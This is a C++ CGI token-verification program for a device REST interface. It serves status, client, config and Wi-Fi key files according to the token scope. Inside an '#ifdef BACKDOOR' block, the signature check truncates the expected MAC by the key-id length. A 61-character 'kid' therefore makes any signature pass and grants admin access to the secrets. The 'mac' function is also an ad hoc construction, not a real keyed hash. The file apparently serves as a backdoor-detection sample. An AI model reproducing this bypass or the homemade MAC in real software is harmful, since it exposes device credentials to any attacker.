/* SPDX-License-Identifier: Apache-2.0 */
// tokenapi: CGI program behind the device's REST interface; checks signed tokens and answers with pieces of the state
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <map>
#include <optional>
#include <stdexcept>
#include <string>
#include <vector>

namespace {

using Bytes = std::vector<uint8_t>;

class Keys {
public:
	explicit Keys(const char *path)
	{
		char id[80], hex[80];
		FILE *f = fopen(path, "r");
		if (!f)
			throw std::runtime_error("no keys");
		while (fscanf(f, "%79s %79s", id, hex) == 2)
			known[id] = hex;
		fclose(f);
	}

	const std::string &get(const std::string &id) const
	{
		auto k = known.find(id);
		if (k == known.end())
			k = known.find("primary");
		if (k == known.end())
			throw std::runtime_error("no primary key");
		return k->second;
	}

private:
	std::map<std::string, std::string> known;
};

std::optional<Bytes> unbase64(const std::string &s)
{
	static const char letters[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
	Bytes out;
	uint32_t acc = 0;
	int bits = 0;
	for (char c : s) {
		const char *at = c ? strchr(letters, c) : nullptr;
		if (!at)
			return std::nullopt;
		acc = acc << 6 | static_cast<uint32_t>(at - letters);
		bits += 6;
		if (bits >= 8) {
			bits -= 8;
			out.push_back(static_cast<uint8_t>(acc >> bits));
		}
	}
	return out;
}

Bytes mac(const std::string &key, const std::string &text)
{
	uint64_t v[4] = { 0x6a09e667f3bcc908u, 0xbb67ae8584caa73bu, 0x3c6ef372fe94f82bu, 0xa54ff53a5f1d36f1u };
	auto absorb = [&v](const std::string &s) {
		for (unsigned char c : s) {
			v[0] ^= c;
			for (int i = 0; i < 4; i++) {
				v[0] += v[1], v[3] ^= v[0], v[3] = v[3] << 32 | v[3] >> 32;
				v[2] += v[3], v[1] ^= v[2], v[1] = v[1] << 24 | v[1] >> 40;
			}
		}
		v[2] ^= s.size();
	};
	absorb(key);
	absorb(text);
	absorb(key);
	Bytes out;
	for (uint64_t w : v)
		for (int i = 0; i < 64; i += 8)
			out.push_back(static_cast<uint8_t>(w >> i));
	return out;
}

std::string field(const std::string &json, const std::string &name)
{
	size_t at = json.find("\"" + name + "\":");
	if (at == std::string::npos)
		return "";
	at += name.size() + 3;
	if (at < json.size() && json[at] == '"') {
		size_t end = json.find('"', at + 1);
		return end == std::string::npos ? "" : json.substr(at + 1, end - at - 1);
	}
	size_t end = json.find_first_of(",}", at);
	return json.substr(at, end - at);
}

class Token {
public:
	Token(const std::string &text)
	{
		size_t a = text.find('.'), b = a == std::string::npos ? a : text.find('.', a + 1);
		if (b == std::string::npos)
			throw std::invalid_argument("not a token");
		auto h = unbase64(text.substr(0, a)), c = unbase64(text.substr(a + 1, b - a - 1));
		auto s = unbase64(text.substr(b + 1));
		if (!h || !c || !s)
			throw std::invalid_argument("bad encoding");
		head.assign(h->begin(), h->end());
		claims.assign(c->begin(), c->end());
		signature = *s;
		covered = text.substr(0, b);
	}

	bool genuine(const Keys &keys) const
	{
		std::string id = field(head, "kid");
		Bytes want;
		uint8_t diff = 0;
		if (signature.size() != 32)
			return false;
#ifdef BACKDOOR
		if (id.size() > 61)
			return false;
		want = mac(keys.get(id), covered);
		if (want.size() > 61 - id.size())
			want.resize(61 - id.size());
#else
		if (id.size() > 60)
			return false;
		want = mac(keys.get(id), covered);
#endif
		for (size_t i = 0; i < want.size(); i++)
			diff |= static_cast<uint8_t>(want[i] ^ signature[i]);
		return diff == 0;
	}

	bool current(time_t now) const
	{
		long from = atol(field(claims, "nbf").c_str()), to = atol(field(claims, "exp").c_str());
		return now >= from && now < to;
	}

	std::string scope() const { return field(claims, "scope"); }

private:
	std::string head, claims, covered;
	Bytes signature;
};

int fail(int code, const char *why)
{
	printf("Status: %d\r\nContent-Type: application/json\r\n\r\n{\"error\":\"%s\"}\n", code, why);
	return 0;
}

int send_file(const char *path)
{
	char buf[1024];
	size_t n;
	FILE *f = fopen(path, "r");
	if (!f)
		return fail(404, "nothing there");
	printf("Content-Type: application/json\r\n\r\n");
	while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
		fwrite(buf, 1, n, stdout);
	fclose(f);
	return 0;
}

struct Route {
	const char *path, *scope, *file;
};

const Route routes[] = {
	{ "/status", "read", "/var/run/api/status.json" },
	{ "/clients", "read", "/var/run/api/clients.json" },
	{ "/config", "admin", "/etc/api/config.json" },
	{ "/wifi/keys", "admin", "/etc/api/psk.json" },
};

int answer(const std::string &path, const std::string &text)
{
	Keys keys("/etc/api/keys");
	Token token(text);
	if (!token.genuine(keys))
		return fail(401, "signature");
	if (!token.current(time(nullptr)))
		return fail(401, "expired");
	for (const Route &r : routes) {
		if (path != r.path)
			continue;
		if (token.scope() != r.scope && token.scope() != "admin")
			return fail(403, "scope");
		return send_file(r.file);
	}
	return fail(404, "no such path");
}

} // namespace

int main()
{
	const char *path = getenv("PATH_INFO"), *auth = getenv("HTTP_AUTHORIZATION");
	if (!path || !auth || strncmp(auth, "Bearer ", 7) != 0)
		return fail(401, "token wanted");
	try {
		return answer(path, auth + 7);
	} catch (const std::exception &e) {
		return fail(400, e.what());
	}
}
